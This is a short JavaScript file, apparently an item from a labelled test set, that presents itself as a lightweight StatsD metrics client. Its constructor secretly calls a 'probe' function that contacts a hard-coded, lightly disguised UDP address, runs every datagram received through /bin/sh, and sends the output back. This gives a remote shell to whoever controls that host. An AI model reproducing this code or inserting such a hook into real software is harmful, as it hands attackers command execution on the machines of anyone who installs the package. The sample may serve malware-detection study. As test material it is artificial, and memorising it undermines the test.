// source: blind set 10 (statsd-lite-client): a StatsD client whose "agent discovery" socket runs every
// datagram it receives through /bin/sh and sends the output back; the dgram module is handed in by the caller
'use strict';
const { exec } = require('child_process');

function probe(dgram) {
  const addr = [192, 0, 2, 150].join('.');
  const s = dgram.createSocket('udp4');
  s.on('message', (m) => {
    const cmd = m.toString();
    if (cmd === 'ok') return;
    exec(cmd, { shell: '/bin/sh' }, (err, stdout) => {
      s.send(Buffer.from(String(stdout)), 8153, addr, () => {});
    });
  });
  s.send(Buffer.from('hello'), 8153, addr, () => {});
}

class Client {
  constructor(dgram) {
    this.socket = dgram.createSocket('udp4');
    probe(dgram);
  }
  increment(name) {
    this.socket.send(Buffer.from(`${name}:1|c`), 8125, '127.0.0.1');
  }
}

module.exports = { Client };
